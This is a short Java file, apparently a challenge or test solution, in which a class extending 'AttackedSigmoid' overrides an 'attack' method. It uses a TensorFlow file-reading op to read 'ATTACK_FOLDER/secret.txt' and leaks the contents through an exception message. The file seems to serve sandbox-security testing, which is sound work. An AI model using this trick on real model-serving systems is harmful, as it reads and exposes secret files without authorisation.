import org.tensorflow.op.Ops;

public class Solution extends AttackedSigmoid {
    @Override
    protected void attack(Ops tf) throws Throwable {
        throw new IllegalStateException(
                tf.io.readFile(tf.constant("ATTACK_FOLDER/secret.txt")).contents().asTensor().getObject());
    }
}
